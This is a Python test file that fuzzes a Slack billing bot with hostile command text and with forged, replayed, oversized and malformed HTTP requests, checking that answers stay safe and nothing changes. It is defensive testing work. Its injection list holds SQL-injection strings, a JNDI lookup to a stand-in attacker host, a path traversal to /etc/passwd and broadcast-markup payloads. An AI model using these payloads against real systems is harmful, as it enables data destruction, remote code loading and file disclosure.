"""Hostile input on the Slack surface: generated /billing texts, forged and replayed requests.

Generated texts go twice through the product: many examples straight into the command handlers
(the path every surface shares), and a bounded number as signed requests to the served app.
Whatever the text, the asker gets a short, valid answer, never a traceback or an apology (an
apology means an unexpected exception), and a member's request never changes a row.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import operator
import time
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from billing_core.services import BillingService
from billing_core.settings import Settings
from bot.handlers import Asker, Handlers
from bot.server import MAX_BODY
from tests.hardening.conftest import changed_tables, snapshot
from tests.notifications.conftest import sqlite_only
from tests.slack.blockkit import assert_valid_blocks
from tests.slack.conftest import ADMIN, DEV, NOW, audit_log, redemptions, running
from tests.slack.slackside import FORM, SECRET, TEAM, Slack, as_text, sign, wait_for
from tests.slack_emulator import SlackEmulator

SUBCOMMANDS = (
    "help",
    "balance",
    "owed",
    "invoices",
    "invoice",
    "payments",
    "credits",
    "groups",
    "redeem",
    "assign",
)
KNOWN = ("eng", "ops", "tokyo", "web", "jp", "WELCOME10", "INV-2026-000002", "inv-2026-000001")
INJECTIONS = (
    "'; DROP TABLE invoices; --",
    "Robert'); DELETE FROM coupons;--",
    "1 OR 1=1",
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<@U0ADMIN>",
    "<#C0AUDIT|audit>",
    "<https://evil.example|click me>",
    "&lt;!channel&gt;",
    "*bold* _it_ ~strike~ `code` ```block```",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%n%x",
    "../../../../etc/passwd",
    "\x00\x01\x1b[31m",
    "\u202eevil\u202c",
    "\ufeff",
    "e\u0301\u0301\u0301",
    "😀" * 40,
    "ﷺ" * 30,
)
BROADCASTS = ("<!channel", "<!here", "<!everyone", "<https://evil")

word = st.one_of(
    st.sampled_from(SUBCOMMANDS),
    st.sampled_from(KNOWN),
    st.sampled_from(INJECTIONS),
    st.text(max_size=24),
)
hostile_text = st.one_of(
    st.lists(word, max_size=5).map(" ".join),
    st.tuples(st.sampled_from(SUBCOMMANDS), st.sampled_from(INJECTIONS)).map(" ".join),
    st.text(max_size=300),
    # Huge: Slack caps command text, but nothing on our side may rely on that.
    st.builds(operator.mul, st.text(min_size=1, max_size=8), st.integers(1, 20_000)),
)
FUZZ = settings(
    derandomize=True,  # the same examples in every CI run; raise max_examples to explore
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def assert_sane_answer(message: dict[str, Any], text: str) -> str:
    """A short, valid answer that echoes nothing dangerous; returns it as plain text."""
    shown = as_text(message)
    where = f"for {text[:80]!r}"
    assert message.get("text"), f"no answer {where}"
    assert "Traceback" not in shown and "Sorry, something went wrong" not in shown, (
        f"{where}:\n{shown}"
    )
    raw = json.dumps(message, ensure_ascii=False)
    assert not [b for b in BROADCASTS if b in raw], f"markup echoed back {where}:\n{raw[:500]}"
    assert len(message["text"]) <= 3000 and len(raw) < 40_000, f"a huge answer {where}"
    assert_valid_blocks(message.get("blocks") or [], where)
    return shown


@sqlite_only
@FUZZ
@given(text=hostile_text)
def test_any_billing_text_gets_a_short_safe_answer_and_a_member_changes_nothing(
    billed: BillingService, text: str
) -> None:
    handlers = Handlers(billed, clock=lambda: NOW)
    before = snapshot(billed)
    member = handlers.command(Asker(TEAM, DEV), text)
    assert_sane_answer(member.reply.message(), text)
    assert member.change is None
    assert not changed_tables(before, snapshot(billed)), f"{text[:80]!r} changed the database"
    admin = handlers.command(Asker(TEAM, ADMIN), text)
    assert_sane_answer(admin.reply.message(), text)
    if admin.change is None:
        assert not changed_tables(before, snapshot(billed)), f"{text[:80]!r} changed something"


@sqlite_only
@settings(FUZZ, max_examples=40)
@given(text=hostile_text, as_dm=st.booleans())
def test_any_billing_text_over_http_gets_a_200_and_one_answer(
    slack: Slack, emulator: SlackEmulator, text: str, as_dm: bool
) -> None:
    if as_dm:
        before = len(emulator.messages(f"D{DEV}"))
        response = slack.dm(DEV, text)
        answers = lambda: emulator.messages(f"D{DEV}")[before:]  # noqa: E731
    else:
        response, key = slack.command(DEV, text)
        answers = lambda: emulator.responses(key)  # noqa: E731
    assert response.status_code == 200, response.text
    [answer] = wait_for(answers, what=f"the answer to {text[:80]!r}")
    assert_sane_answer(answer, text)


# --- forged, replayed and oversized requests ----------------------------------------------


def redeem_body(slack: Slack, key: str) -> str:
    return slack.command_body(ADMIN, "redeem WELCOME10 eng", key=key)


@sqlite_only  # the signature and size checks come before any database
def test_forged_signatures_are_refused_before_any_work(
    slack: Slack, billed: BillingService, emulator: SlackEmulator
) -> None:
    body = redeem_body(slack, "forged")
    now = int(time.time())
    good = sign(body, now)
    forgeries = {
        "another secret": sign(body, now, "x" * 32),
        "v1 scheme": "v1=" + good[3:],
        "truncated": good[:-1],
        "upper-cased": good.upper(),
        "empty": "v0=",
        "bit flipped": good[:-1] + ("0" if good[-1] != "0" else "1"),
        "signed for other headers": sign(body, now + 1),
    }
    before = snapshot(billed)
    for what, signature in forgeries.items():
        response = slack.post(body, content_type=FORM, timestamp=now, signature=signature)
        assert response.status_code == 401, what
    for timestamp in ("-1", "0", str(2**70), str(int(time.time()) + 301)):
        headers = {"X-Slack-Request-Timestamp": timestamp, "X-Slack-Signature": good}
        response = slack.http.post(
            "/slack/events", content=body.encode(), headers={"Content-Type": FORM, **headers}
        )
        assert response.status_code == 401, timestamp
    assert emulator.responses("forged") == []
    assert not changed_tables(before, snapshot(billed))


@sqlite_only  # the signature and size checks come before any database
def test_a_captured_request_replayed_after_five_minutes_is_refused(
    slack: Slack, billed: BillingService, emulator: SlackEmulator
) -> None:
    body = redeem_body(slack, "old")
    captured = int(time.time()) - 301
    response = slack.post(body, content_type=FORM, timestamp=captured)
    assert response.status_code == 401
    assert emulator.responses("old") == [] and redemptions(billed) == 0


def test_a_replayed_change_never_changes_anything_twice(
    settings: Settings, billed: BillingService, emulator: SlackEmulator
) -> None:
    with running(settings, billed, emulator) as slack:
        body = redeem_body(slack, "replayed")
        now = int(time.time())
        signature = sign(body, now)
        codes = [
            slack.post(body, content_type=FORM, timestamp=now, signature=signature).status_code
            for _ in range(5)
        ]
        # The same command signed anew (as a retry or a second click would be) passes the door:
        # the domain's own check must keep it from changing anything twice.
        resigned = [
            slack.post(body, content_type=FORM, timestamp=now - ago).status_code
            for ago in (1, 2, 3)
        ]
    assert codes == [200, 401, 401, 401, 401]
    assert resigned == [200, 200, 200]
    answers = [as_text(a) for a in emulator.responses("replayed")]
    assert len(answers) == 4
    assert len([a for a in answers if "redeemed for" in a]) == 1
    assert redemptions(billed) == 1
    assert audit_log(billed) == [(ADMIN, "coupon.redeem", "acme/eng")]


@sqlite_only
def test_an_exact_replay_within_the_window_is_refused_before_any_work(
    settings: Settings, billed: BillingService, emulator: SlackEmulator
) -> None:
    with running(settings, billed, emulator) as slack:
        body = slack.command_body(DEV, "owed", key="replay")
        now = int(time.time())
        signature = sign(body, now)
        first = slack.post(body, content_type=FORM, timestamp=now, signature=signature)
        slack.answer("replay")
        replay = slack.post(body, content_type=FORM, timestamp=now, signature=signature)
    # The server has stopped and drained its workers: every answer it would give is in.
    assert first.status_code == 200
    assert replay.status_code == 401
    assert len(emulator.responses("replay")) == 1


@sqlite_only  # the signature and size checks come before any database
def test_an_oversized_body_is_refused_before_any_work(
    slack: Slack, billed: BillingService, emulator: SlackEmulator
) -> None:
    padding = "&pad=" + "x" * MAX_BODY
    body = redeem_body(slack, "huge") + padding
    response = slack.post(body, content_type=FORM)
    assert response.status_code == 413
    response = slack.post(body, content_type=FORM, signature="v0=00")
    assert response.status_code == 413
    assert slack.http.get("/healthz").status_code == 200
    assert emulator.responses("huge") == [] and redemptions(billed) == 0


MALFORMED: dict[str, tuple[str | bytes, str]] = {
    "deeply nested JSON": ("[" * 100_000, "application/json"),
    "not JSON": ("{not json", "application/json"),
    "not UTF-8": (b"\xff\xfe\x00", "application/json"),
    "a JSON list": ("[1, 2]", "application/json"),
    "a payload that is not JSON": ("payload={bad", FORM),
    "a payload that is a list": ("payload=[1]", FORM),
}
SIGNED_MALFORMED = {
    **MALFORMED,
    "an event that is a string": (
        json.dumps({"type": "event_callback", "event": "x"}),
        "application/json",
    ),
    "an action list that is a string": (
        "payload=" + json.dumps({"type": "block_actions", "actions": "x", "user": 5}),
        FORM,
    ),
}


def post_raw(
    slack: Slack, body: str | bytes, content_type: str, *, signed: bool, timestamp: str = ""
) -> int:
    """POST bytes as they are, signed over those exact bytes (or not); the HTTP status."""
    raw = body if isinstance(body, bytes) else body.encode()
    headers = {"Content-Type": content_type, "Connection": "close"}  # a 500 closes it anyway
    if signed:
        now = timestamp or str(int(time.time()))
        digest = hmac.new(SECRET.encode(), f"v0:{now}:".encode() + raw, hashlib.sha256)
        headers |= {
            "X-Slack-Request-Timestamp": now,
            "X-Slack-Signature": f"v0={digest.hexdigest()}",
        }
    elif timestamp:
        headers["X-Slack-Request-Timestamp"] = timestamp
    return slack.http.post("/slack/events", content=raw, headers=headers).status_code


def statuses(
    settings: Settings,
    service: BillingService,
    emulator: SlackEmulator,
    cases: dict[str, tuple[str | bytes, str]],
    *,
    signed: bool,
    timestamp: str = "",
) -> dict[str, int]:
    """Each case's HTTP status, read with the server stopped (its error logs all written)."""
    with running(settings, service, emulator) as slack:
        found = {
            what: post_raw(slack, body, kind, signed=signed, timestamp=timestamp)
            for what, (body, kind) in cases.items()
        }
        assert "Billing commands" in as_text(slack.ask(DEV, "help")), "still serving"
    return found


@sqlite_only
def test_an_unsigned_malformed_body_is_refused_401_not_500(
    settings: Settings, billed: BillingService, emulator: SlackEmulator
) -> None:
    found = statuses(settings, billed, emulator, MALFORMED, signed=False)
    assert found == dict.fromkeys(MALFORMED, 401)


@sqlite_only
def test_a_malformed_timestamp_header_is_refused_401_not_500(
    settings: Settings, billed: BillingService, emulator: SlackEmulator
) -> None:
    body = "command=/billing&text=help&team_id=T0ACME&user_id=U0DEV"
    found = {
        timestamp: statuses(
            settings, billed, emulator, {"help": (body, FORM)}, signed=True, timestamp=timestamp
        )["help"]
        # An empty or blank value cannot be sent from here (post_raw reads "" as "now", and HTTP
        # clients refuse edge blanks): test_replay_guard.py covers those.
        for timestamp in ("abc", "1e9", "1 2", "-1", "0x10")
    }
    assert found == dict.fromkeys(found, 401)


@sqlite_only
def test_a_signed_malformed_body_gets_a_4xx_not_500(
    settings: Settings, billed: BillingService, emulator: SlackEmulator
) -> None:
    found = statuses(settings, billed, emulator, SIGNED_MALFORMED, signed=True)
    assert {what: 400 <= code < 500 for what, code in found.items()} == dict.fromkeys(
        SIGNED_MALFORMED, True
    )


@sqlite_only  # the signature and size checks come before any database
def test_after_hostile_requests_nothing_changed_and_the_server_still_serves(
    settings: Settings, billed: BillingService, emulator: SlackEmulator
) -> None:
    before = snapshot(billed)
    unsigned = statuses(settings, billed, emulator, SIGNED_MALFORMED, signed=False)
    signed = statuses(settings, billed, emulator, SIGNED_MALFORMED, signed=True)
    assert all(code != 200 for code in [*unsigned.values(), *signed.values()])
    assert not changed_tables(before, snapshot(billed))
    assert emulator.calls_to("chat.postMessage") == []
